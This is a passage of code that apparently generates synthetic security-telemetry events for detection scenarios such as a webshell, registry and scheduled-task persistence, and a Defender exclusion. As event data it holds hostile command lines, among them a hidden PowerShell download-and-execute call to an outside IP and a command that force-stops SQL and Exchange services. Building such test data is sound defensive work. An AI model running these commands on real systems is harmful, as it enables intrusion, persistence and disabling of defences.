        60,
      ],
      [
        t(E, "PnpDeviceConnected", "System", 0, {
          system: true,
          fields: {
            AdditionalFields:
              '{"ClassName":"USB","DeviceId":"USB\\\\VID_0781&PID_5581\\\\4C530001{n}","DeviceDescription":"USB Mass Storage Device","VendorIds":"USB\\\\VID_0781"}',
          },
        }),
        58,
      ],
      [
        t(R, "RegistryValueSet", "reg.exe", 0, {
          fields: {
            RegistryKey: "HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
            RegistryValueName: "Updater",
            RegistryValueType: "String",
            RegistryValueData: "rundll32.exe C:\\ProgramData\\Intel\\updater.dll,Start",
          },
        }),
        5,
      ],
      [
        t(R, "RegistryValueSet", "powershell.exe", 0, {
          system: true,
          fields: {
            RegistryKey: "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths",
            RegistryValueName: "C:\\ProgramData\\Intel",
            RegistryValueType: "Dword",
            RegistryValueData: "0",
          },
        }),
        8,
      ],
      [
        t(E, "AsrOfficeChildProcessAudited", "EXCEL.EXE", 0, {
          file: "rundll32.exe",
          cmd: "rundll32.exe C:\\ProgramData\\Intel\\updater.dll,Start",
          fields: { FolderPath: "C:\\Windows\\System32\\rundll32.exe" },
        }),
        9,
      ],
    ],
  },
  {
    name: "webshell",
    alertTitles: [],
    events: [
      [
        t(FE, "FileCreated", "w3wp.exe", 0, {
          file: "help.aspx",
          system: true,
          fields: { FolderPath: "C:\\inetpub\\wwwroot\\aspnet_client\\help.aspx" },
        }),
        0,
      ],
      ...["cmd.exe /c whoami", "cmd.exe /c net user", "powershell.exe -c Get-Process"].map(
        (cmd, i) =>
          [
            t(P, "ProcessCreated", "w3wp.exe", 0, {
              file: cmd.split(" ")[0]!,
              cmd,
              system: true,
              grandparent: "svchost.exe",
            }),
            60 + i * 30,
          ] as [EventTemplate, number],
      ),
      [
        t(P, "ProcessCreated", "PSEXESVC.exe", 0, {
          file: "powershell.exe",
          cmd: 'powershell.exe -c "Get-Service *sql*,*MSExchange* | Stop-Service -Force"',
          system: true,
          grandparent: "services.exe",
        }),
        200,
      ],
    ],
  },
  {
    name: "persistence",
    alertTitles: ["Suspicious scheduled task", "Suspicious WMI event subscription"],
    events: [
      [
        t(P, "ProcessCreated", "cmd.exe", 0, {
          file: "schtasks.exe",
          cmd: 'schtasks /create /tn "OneDrive Sync" /tr "rundll32.exe C:\\ProgramData\\Intel\\updater.dll,Start" /sc onlogon /ru SYSTEM',
          grandparent: "powershell.exe",
        }),
        0,
      ],
      [
        t(E, "ScheduledTaskCreated", "schtasks.exe", 0, {
          fields: {
            AdditionalFields:
              '{"TaskName":"\\\\OneDrive Sync","TaskContent":"rundll32.exe C:\\\\ProgramData\\\\Intel\\\\updater.dll,Start"}',
          },
        }),
        1,
      ],
      [
        t(P, "ProcessCreated", "WmiPrvSE.exe", 0, {
          file: "powershell.exe",
          cmd: "powershell.exe -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://45.153.160.11/a')",
          system: true,
          grandparent: "svchost.exe",
        }),
        30,
      ],
      [t(E, "AsrPersistenceThroughWmiAudited", "WmiPrvSE.exe", 0, { system: true }), 31],
    ],
  },
];
